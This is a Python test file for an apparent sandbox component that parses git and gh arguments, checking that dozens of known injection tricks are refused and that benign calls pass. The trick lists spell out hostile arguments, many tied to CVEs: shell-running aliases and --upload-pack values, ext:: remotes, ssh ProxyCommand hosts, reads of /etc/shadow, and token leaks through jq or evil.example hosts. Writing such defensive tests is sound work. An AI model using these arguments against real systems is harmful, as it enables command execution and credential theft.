"""The argument grammar: known tricks to make git or gh run, read or tell something else, and calls that pass.

Each trick is tried with the widest policy there is, `allow: ["*"]`: only the profile stands against it.
"""

from __future__ import annotations

import string

import pytest
from hypothesis import given
from hypothesis import strategies as st

from sandwright.bridge.grammar import Call, Grammar, Refused, compile_grammar
from sandwright.bridge.kinds import File
from sandwright.bridge.profiles import profile_of
from sandwright.errors import RenderError
from sandwright.policy.values import command

GIT_TRICKS = [
    # (source, arguments)
    ("git-config(1) alias.*: a ! runs a shell", ["-c", "alias.x=!id", "x"]),
    ("git-config(1) core.sshCommand", ["-c", "core.sshCommand=id", "fetch", "origin"]),
    ("git-config(1) core.fsmonitor runs a command", ["-c", "core.fsmonitor=id", "push", "origin"]),
    ("git(1) --config-env", ["--config-env=core.editor=HOME", "push", "origin"]),
    ("git(1) --exec-path: where git looks for its programs", ["--exec-path=/tmp/x", "push", "origin"]),
    ("git(1) -C: another directory", ["-C", "/root/other", "push", "origin"]),
    ("git(1) --git-dir", ["--git-dir=/work/evil", "push", "origin"]),
    ("git(1) --work-tree", ["--work-tree=/", "push", "origin"]),
    ("git(1) -p runs a pager", ["-p", "ls-remote", "origin"]),
    ("git-push(1) --receive-pack", ["push", "--receive-pack=id;", "origin", "main"]),
    ("git-push(1) --exec is --receive-pack", ["push", "--exec=id;", "origin", "main"]),
    ("git-fetch(1) --upload-pack; CVE-2022-24433, CVE-2022-25648", ["fetch", "--upload-pack=id", "origin"]),
    ("gitcli(7): options may be abbreviated", ["fetch", "--upload-p=id", "origin"]),
    ("git-fetch(1) --upload-pack with its value apart", ["fetch", "--upload-pack", "id", "origin"]),
    ("git-ls-remote(1) --upload-pack", ["ls-remote", "--upload-pack=id", "origin"]),
    ("git-ls-remote(1) --exec", ["ls-remote", "--exec=id", "origin"]),
    ("CVE-2018-17456: a leading dash in an operand", ["push", "origin", "--", "--receive-pack=id"]),
    ("CVE-2018-17456: an option where the remote stands", ["push", "--", "-u./payload", "main"]),
    ("git-remote-ext(1), CVE-2022-25912", ["fetch", "ext::sh -c id% >&2", "main"]),
    ("git-remote-ext(1) for push", ["push", "ext::sh -c id", "main"]),
    ("git-push(1) --repo", ["push", "--repo=ext::id", "main"]),
    ("CVE-2017-1000117: an option of ssh as host", ["fetch", "ssh://-oProxyCommand=id/x", "--", "main x"]),
    (
        "CVE-2020-5260: a newline in an address tells another host",
        ["fetch", "https://a.b/%0ahost=c\n", "main"],
    ),
    ("git-push(1) --recurse-submodules", ["push", "--recurse-submodules=on-demand", "origin", "main"]),
    ("git-push(1) --signed runs gpg.program", ["push", "--signed=true", "origin", "main"]),
    ("CVE-2019-19604: submodule update runs what .gitmodules says", ["submodule", "update", "--init"]),
    ("CVE-2024-32002: a recursive clone runs a hook", ["clone", "--recursive", "https://a.b/c"]),
    ("git-clone(1) -u", ["clone", "-u", "id;", "https://a.b/c"]),
    ("git-clone(1) --config", ["clone", "--config", "core.fsmonitor=id", "https://a.b/c"]),
    ("git-init(1) --template brings hooks", ["init", "--template=/work/evil"]),
    ("git-archive(1) --remote --exec", ["archive", "--remote=.", "--exec=id", "HEAD"]),
    ("git-archive(1) --output writes a file", ["archive", "--output=/root/.profile", "HEAD"]),
    ("git-grep(1) -O runs a pager", ["grep", "-Oid", "x"]),
    ("git-bisect(1) run", ["bisect", "run", "id"]),
    ("git-rebase(1) --exec", ["rebase", "--exec=id", "HEAD~1"]),
    ("git-diff(1) --no-index reads any file", ["diff", "--no-index", "/etc/shadow", "/dev/null"]),
    ("git-log(1) --output writes a file", ["log", "--output=/root/.profile"]),
    ("GTFOBins git: the pager of help", ["help", "config"]),
    ("git-config(1) sets core.pager", ["config", "--global", "core.pager", "id"]),
    ("git-credential(1) fill prints the secret", ["credential", "fill"]),
    ("git-difftool(1) -x", ["difftool", "-x", "id", "HEAD"]),
    ("git-filter-branch(1)", ["filter-branch", "--tree-filter", "id"]),
    ("git-send-email(1) --sendmail-cmd", ["send-email", "--sendmail-cmd=id", "x"]),
    ("git-daemon(1) serves files", ["daemon", "--base-path=/", "--export-all"]),
    ("git-receive-pack(1) runs hooks", ["receive-pack", "/work/evil"]),
    ("gitremote-helpers(7) called by name", ["remote-ext", "origin", "sh -c id"]),
    ("git-maintenance(1) start writes a crontab", ["maintenance", "start"]),
    ("git-fetch(1) --multiple, --all: remotes nobody checked", ["fetch", "--all"]),
    ("gitrevisions(7) reads reflogs", ["push", "origin", "HEAD@{1}:refs/heads/x"]),
    ("git-check-ref-format(1): a newline in a ref", ["push", "origin", "main\nevil"]),
    ("git-check-ref-format(1): a ref that climbs", ["push", "origin", "refs/../../config"]),
    ("git-push(1): a refspec of all refs", ["push", "origin", "refs/*:refs/*"]),
    ("an alias of the repository's", ["x", "origin"]),
    ("NUL ends an argument for C", ["push", "origin", "main\0--receive-pack=id"]),
    ("git-config(1) credential.helper: a ! runs a shell", ["-c", "credential.helper=!id", "fetch", "origin"]),
    ("git-config(1) http.proxy leads elsewhere", ["-c", "http.proxy=http://evil.example", "push", "origin"]),
    ("git-config(1) url.<base>.insteadOf", ["-c", "url.ext::.insteadOf=https://", "fetch", "origin"]),
    ("git-config(1) http.sslVerify", ["-c", "http.sslVerify=false", "push", "origin", "main"]),
    ("git(1) --namespace", ["--namespace=x", "push", "origin", "main"]),
    ("git(1) --html-path, and what follows it", ["--html-path", "push", "origin"]),
    (
        "CVE-2025-48385: a bundle's address writes files",
        ["clone", "--bundle-uri=https://a.b/x", "https://a.b/c"],
    ),
    ("CVE-2025-48384: submodules of a recursive clone", ["clone", "--recurse-submodules", "https://a.b/c"]),
    ("CVE-2024-52006: a carriage return tells another host", ["fetch", "https://a.b/\rhost=c", "main"]),
    ("CVE-2024-32004: a local repository's hooks", ["fetch", "/work/evil", "main"]),
    ("CVE-2022-39253: a link in a local clone", ["clone", "--local", "/work/evil"]),
    ("git-fetch(1) --recurse-submodules reads .gitmodules", ["fetch", "--recurse-submodules=yes", "origin"]),
    ("git-fetch(1) --stdin: refspecs nobody looked at", ["fetch", "--stdin", "origin"]),
    ("git-fetch(1) --refmap", ["fetch", "--refmap=+refs/*:refs/heads/*", "origin"]),
    ("git-fetch(1) --server-option", ["fetch", "-o", "x", "origin"]),
    ("git-push(1) --push-option is given to hooks", ["push", "-o", "ci.variable=X=y", "origin", "main"]),
    ("git-push(1) --mirror deletes what is not here", ["push", "--mirror", "origin"]),
    ("git-push(1) --prune", ["push", "--prune", "origin", "main"]),
    ("git-ls-remote(1) --get-url prints a password", ["ls-remote", "--get-url", "origin"]),
    ("git-remote(1) set-url", ["remote", "set-url", "origin", "ext::id"]),
    ("git-bundle(1) writes a file", ["bundle", "create", "/root/.profile", "HEAD"]),
    ("git-worktree(1) writes elsewhere", ["worktree", "add", "/root/x"]),
    ("git-hook(1) run", ["hook", "run", "pre-commit"]),
    ("git-for-each-repo(1) runs git by a configuration", ["for-each-repo", "--config=a.b", "fetch"]),
    ("git-sh-i18n--envsubst and other programs of git's", ["sh-i18n", "origin"]),
]

GH_TRICKS = [
    ("gh help alias set: ! runs a shell", ["alias", "set", "x", "!id"]),
    ("gh help extension: an extension is a program", ["extension", "install", "evil/gh-x"]),
    ("gh help extension exec", ["extension", "exec", "x"]),
    ("gh: an unknown sub-command runs an extension", ["x"]),
    ("gh help auth token", ["auth", "token"]),
    ("gh help auth status --show-token", ["auth", "status", "--show-token"]),
    ("gh help auth status -t", ["auth", "status", "-t"]),
    ("pflag: options written together", ["auth", "status", "-at"]),
    ("gh auth git-credential prints the token", ["auth", "git-credential", "get"]),
    ("gh help auth setup-git changes what git runs", ["auth", "setup-git"]),
    ("gh help auth login --with-token", ["auth", "login", "--with-token"]),
    ("gh help api: any request", ["api", "-X", "DELETE", "/repos/o/r"]),
    ("gh help api -F x=@file sends a file", ["api", "gists", "-F", "x=@/etc/passwd"]),
    ("gh help api --input sends a file", ["api", "gists", "--input", "/etc/passwd"]),
    ("gh help formatting: jq's env has the token", ["pr", "list", "--json", "title", "--jq", "env.GH_TOKEN"]),
    ("gh help formatting: jq's $ENV", ["issue", "list", "--json", "title", "-q", "$ENV|@base64"]),
    ("gh help formatting --template", ["pr", "list", "--json", "title", "--template", "{{.}}"]),
    ("gh help environment GH_BROWSER: --web", ["pr", "view", "1", "--web"]),
    ("gh help pr view -w", ["pr", "view", "1", "-w"]),
    ("pflag: a flag with a value", ["pr", "list", "--draft=true", "--web=true"]),
    ("gh help browse runs a browser", ["browse", "--", "x"]),
    ("gh help pr create -F reads a file", ["pr", "create", "-t", "x", "-H", "b", "-F", "../../etc/passwd"]),
    ("gh help pr create --template reads a file", ["pr", "create", "-t", "x", "-H", "b", "-T", "x.md"]),
    ("gh help pr create --recover reads a file", ["pr", "create", "--recover", "/etc/passwd"]),
    ("gh help pr create --editor runs one", ["pr", "create", "-t", "x", "-b", "y", "-H", "b", "--editor"]),
    ("gh help pr create --fill runs git", ["pr", "create", "--fill", "-H", "b"]),
    ("gh pr create without --head pushes with git", ["pr", "create", "-t", "x", "-b", "y"]),
    ("gh help pr checkout runs git with its hooks", ["pr", "checkout", "1"]),
    ("gh's alias co", ["co", "1"]),
    ("gh help pr merge --delete-branch runs git", ["pr", "merge", "1", "--squash", "--delete-branch"]),
    ("gh help repo clone: git's options behind --", ["repo", "clone", "o/r", "--", "--upload-pack=id"]),
    ("CVE-2024-53858: cloning submodules sends the token elsewhere", ["repo", "clone", "o/r"]),
    ("CVE-2024-52308: codespace ssh runs what the server says", ["codespace", "ssh"]),
    ("CVE-2024-54132: run download writes outside", ["run", "download", "1"]),
    ("gh help gist create sends a file", ["gist", "create", "/etc/passwd"]),
    ("gh help release upload sends a file", ["release", "upload", "v1", "/etc/passwd"]),
    ("gh help release create --notes-file", ["release", "create", "v1", "--notes-file", "/etc/passwd"]),
    ("gh help release download writes files", ["release", "download", "v1", "-D", "/root"]),
    ("gh help config set editor", ["config", "set", "editor", "id"]),
    ("gh help config set pager", ["config", "set", "pager", "id"]),
    ("gh help secret set", ["secret", "set", "X", "--body", "y"]),
    ("gh help variable set -f reads a file", ["variable", "set", "-f", "/etc/passwd"]),
    ("gh help ssh-key add", ["ssh-key", "add", "key.pub"]),
    ("gh -R HOST/OWNER/NAME: another host", ["pr", "list", "-R", "evil.example/o/r"]),
    ("gh -R takes addresses", ["pr", "list", "--repo", "https://evil.example/o/r"]),
    ("an option before the sub-command", ["--repo", "o/r", "pr", "list"]),
    ("gh help issue develop --checkout runs git", ["issue", "develop", "1", "--checkout"]),
    ("gh help repo create --source --push runs git", ["repo", "create", "x", "--source=.", "--push"]),
    ("gh help workflow run -F reads a file", ["workflow", "run", "x", "-F", "a=@/etc/passwd"]),
    ("gh help attestation reads files", ["attestation", "verify", "/etc/passwd", "-R", "o/r"]),
    ("gh help copilot runs another program", ["copilot", "suggest", "x"]),
    ("an operand that is an option", ["pr", "view", "--", "--web"]),
    ("CVE-2025-48938: a browser for an address that a server gives", ["pr", "create", "--web", "-t", "x"]),
    ("CVE-2024-53859: a token for another host", ["auth", "status", "--hostname", "evil.example"]),
    ("gh help auth refresh", ["auth", "refresh", "-s", "admin:org"]),
    ("gh help auth logout", ["auth", "logout"]),
    ("gh help repo set-default writes git's configuration", ["repo", "set-default", "o/r"]),
    ("gh help repo delete", ["repo", "delete", "o/r", "--yes"]),
    ("gh help repo edit", ["repo", "edit", "o/r", "--visibility", "public"]),
    ("gh help repo deploy-key add reads a file", ["repo", "deploy-key", "add", "/etc/passwd"]),
    ("gh help release delete", ["release", "delete", "v1", "--yes"]),
    ("gh help label clone", ["label", "clone", "o/other"]),
    ("gh help run watch runs without an end", ["run", "watch", "1"]),
    (
        "gh help pr create -F of a process's descriptor",
        ["pr", "comment", "1", "-F", "/proc/self/fd/0/../environ"],
    ),
    ("pflag: a value that is glued to its letter", ["pr", "comment", "1", "-F/etc/passwd"]),
]

GIT_CALLS = [
    (["push"], ("push", "--")),
    (["push", "origin", "main"], ("push", "--", "origin", "main")),
    (["push", "-u", "origin", "HEAD"], ("push", "--set-upstream", "--", "origin", "HEAD")),
    (["push", "--force-with-lease", "origin", "+a/b:refs/heads/c"],
     ("push", "--force-with-lease", "--", "origin", "+a/b:refs/heads/c")),
    (["push", "origin", "--delete", "old"], ("push", "--delete", "--", "origin", "old")),
    (["push", "origin", ":old"], ("push", "--", "origin", ":old")),
    (["push", "--tags", "-q", "origin"], ("push", "--tags", "--quiet", "--", "origin")),
    (["fetch"], ("fetch", "--")),
    (["fetch", "--tags", "origin", "main:refs/remotes/origin/main"],
     ("fetch", "--tags", "--", "origin", "main:refs/remotes/origin/main")),
    (["fetch", "https://github.com/o/r.git", "main"], ("fetch", "--", "https://github.com/o/r.git", "main")),
    (["ls-remote", "--heads", "origin"], ("ls-remote", "--heads", "--", "origin")),
]  # fmt: skip

GH_CALLS = [
    (["auth", "status"], ("auth", "status", "--")),
    (["pr", "list"], ("pr", "list", "--")),
    (["pr", "list", "-L", "5", "--json=number,title", "--search", "is:open -draft"],
     ("pr", "list", "--limit=5", "--json=number,title", "--search=is:open -draft", "--")),
    (["pr", "view", "12", "-c", "--repo", "o/r.x"], ("pr", "view", "--comments", "--repo=o/r.x", "--", "12")),
    (["pr", "view", "feature/x"], ("pr", "view", "--", "feature/x")),
    (["pr", "create", "--title", "--web", "-b", "$(id)\n`id`", "-H", "topic"],
     ("pr", "create", "--title=--web", "--body=$(id)\n`id`", "--head=topic", "--")),
    (["pr", "create", "-t", "x", "-F", "notes/body.md", "--head=topic", "-d"],
     ("pr", "create", "--title=x", ("--body-file=", File("notes/body.md")), "--head=topic", "--draft", "--")),
    (["pr", "comment", "1", "--body-file", "-"], ("pr", "comment", "--body-file=-", "--", "1")),
    (["pr", "review", "3", "--approve"], ("pr", "review", "--approve", "--", "3")),
    (["pr", "merge", "3", "--squash", "--auto"], ("pr", "merge", "--squash", "--auto", "--", "3")),
    (["pr", "checks", "3", "--required"], ("pr", "checks", "--required", "--", "3")),
    (["pr", "diff", "3"], ("pr", "diff", "--", "3")),
    (["issue", "create", "-t", "a", "-b", "b", "-l", "bug"],
     ("issue", "create", "--title=a", "--body=b", "--label=bug", "--")),
    (["issue", "list", "-a", "@me", "-s", "all"], ("issue", "list", "--assignee=@me", "--state=all", "--")),
    (["run", "view", "123", "--log-failed"], ("run", "view", "--log-failed", "--", "123")),
    (["repo", "view", "o/r"], ("repo", "view", "--", "o/r")),
]  # fmt: skip


def _grammar(program: str, *entries: str) -> Grammar:
    return compile_grammar(program, [command(each) for each in entries or ("*",)], profile_of(program))


def test_there_are_enough() -> None:
    assert len(GIT_TRICKS) >= 40
    assert len(GH_TRICKS) >= 40
    assert len(GIT_CALLS) + len(GH_CALLS) >= 20


@pytest.mark.parametrize(("source", "arguments"), GIT_TRICKS, ids=[source for source, _ in GIT_TRICKS])
def test_tricks_with_git(source: str, arguments: list[str]) -> None:
    with pytest.raises(Refused):
        _grammar("git").parse(arguments)


@pytest.mark.parametrize(("source", "arguments"), GH_TRICKS, ids=[source for source, _ in GH_TRICKS])
def test_tricks_with_gh(source: str, arguments: list[str]) -> None:
    with pytest.raises(Refused):
        _grammar("gh").parse(arguments)


@pytest.mark.parametrize(("arguments", "words"), GIT_CALLS, ids=lambda x: " ".join(map(str, x)))
def test_calls_of_git(arguments: list[str], words: tuple[str, ...]) -> None:
    assert _grammar("git").parse(arguments).words() == words


@pytest.mark.parametrize(("arguments", "words"), GH_CALLS, ids=lambda x: " ".join(map(str, x))[:60])
def test_calls_of_gh(arguments: list[str], words: tuple[str | tuple[str, File], ...]) -> None:
    assert _grammar("gh").parse(arguments).words() == words


@pytest.mark.parametrize(
    ("entries", "arguments", "passes"),
    [
        (["auth status"], ["auth", "status"], True),
        (["auth status"], ["auth", "status", "--active"], False),
        (["pr *"], ["pr", "list"], True),
        (["pr *"], ["issue", "list"], False),
        (["pr *"], ["prx", "list"], False),
        (["pr list *"], ["pr", "view", "1"], False),
        (["pr list", "pr view *"], ["pr", "view", "1"], True),
        ([], ["pr", "list"], False),
    ],
)
def test_entries(entries: list[str], arguments: list[str], passes: bool) -> None:
    grammar = compile_grammar("gh", [command(each) for each in entries], profile_of("gh"))
    if passes:
        assert isinstance(grammar.parse(arguments), Call)
    else:
        with pytest.raises(Refused, match="the policy does not let"):
            grammar.parse(arguments)


@pytest.mark.parametrize(
    ("program", "entry", "said"),
    [
        ("gh", "api *", "credentials.shims.gh.allow[1]: `api *` is nothing that the bridge runs: it "),
        ("gh", "pr checkout *", "`pr checkout *` is nothing that the bridge runs: it runs git in the"),
        ("gh", "frobnicate", "`frobnicate` is nothing that the bridge runs; it runs auth, issue, label, pr"),
        ("git", "commit *", "`commit *` is nothing that the bridge runs: it needs no secret"),
        ("git", "-c *", "`-c *` is nothing that the bridge runs; it runs fetch, ls-remote, push"),
        ("gh", "auth", "`auth` is nothing that the bridge runs"),
    ],
)  # fmt: skip
def test_entries_that_could_let_nothing_through(program: str, entry: str, said: str) -> None:
    first = "auth status" if program == "gh" else "push"
    with pytest.raises(RenderError) as caught:
        _grammar(program, first, entry)
    assert said in str(caught.value)


@pytest.mark.parametrize(
    ("entries", "arguments", "passes"),
    [
        (["deploy *"], ["deploy", "staging", "v1.2"], True),
        (["deploy --now *"], ["deploy", "--now", "staging"], True),
        (["get /etc/motd"], ["get", "/etc/motd"], True),
        (["deploy *"], ["deploy", "--now"], False),
        (["deploy *"], ["deploy", "-x"], False),
        (["deploy *"], ["deploy", "/etc/passwd"], False),
        (["deploy *"], ["deploy", "a/b"], False),
        (["deploy *"], ["deploy", ".."], False),
        (["deploy *"], ["deploy", "a..b"], False),
        (["deploy *"], ["deploy", "@file"], False),
        (["deploy *"], ["deploy", "a=b"], False),
        (["deploy *"], ["deploy", "https:x"], False),
        (["deploy *"], ["deploy", "a b"], False),
        (["deploy *"], ["deploy", "$(id)"], False),
        (["deploy *"], ["deploy", "a\nb"], False),
        (["deploy *"], ["deploy", ""], False),
        (["deploy *"], ["destroy"], False),
    ],
)
def test_programs_without_a_profile(entries: list[str], arguments: list[str], passes: bool) -> None:
    grammar = _grammar("tool", *entries)
    if passes:
        assert grammar.parse(arguments).words() == tuple(arguments)
    else:
        with pytest.raises(Refused):
            grammar.parse(arguments)


WORDS = [
    *(
        "push",
        "fetch",
        "pr",
        "list",
        "create",
        "view",
        "auth",
        "status",
        "--",
        "-t",
        "--title",
        "--body",
        "-c",
    ),
    *("--receive-pack", "--upload-pack", "--web", "--jq", "-R", "o/r", "origin", "1", "--body-file", "../x"),
    *("ext::id", "-", "", "--title=--web", "--exec=id", "a\0b", "-F", "--head", "main", "--repo=h/o/r"),
]


@given(
    st.sampled_from(["git", "gh"]),
    st.lists(st.sampled_from(WORDS) | st.text(max_size=12) | st.text("-=/.:+@ab", max_size=8), max_size=8),
)
def test_whatever_passes_is_harmless(program: str, arguments: list[str]) -> None:
    """What is written for the program has known options only, each with its value behind `=`."""
    try:
        words = _grammar(program).parse(arguments).words()
    except Refused:
        return
    flat = [word if isinstance(word, str) else word[0] + word[1].path for word in words]
    assert not any("\0" in word for word in flat)
    ended = flat.index("--")
    for word in flat[ended + 1 :]:
        assert word[:1] in string.ascii_letters + string.digits + "_+:"
        assert "::" not in word
        assert ".." not in word
    names = {word.partition("=")[0] for word in flat[:ended] if word.startswith("-")}
    assert not names & {
        *(
            "-c",
            "-C",
            "--exec",
            "--exec-path",
            "--receive-pack",
            "--upload-pack",
            "--config-env",
            "--git-dir",
        ),
        *(
            "--web",
            "--jq",
            "--template",
            "--show-token",
            "--editor",
            "--recover",
            "--hostname",
            "-t",
            "-q",
            "-w",
        ),
    }
    for word in flat[:ended]:
        if word.startswith("--repo="):
            assert word.count("/") == 1


@given(st.lists(st.text(max_size=10), max_size=6))
def test_whatever_passes_without_a_profile_is_plain(arguments: list[str]) -> None:
    try:
        words = _grammar("tool", "go *").parse(["go", *arguments]).words()
    except Refused:
        return
    allowed = set(string.ascii_letters + string.digits + "_.,+-")
    assert all(set(word) <= allowed and word[0] not in "-." for word in words if isinstance(word, str))
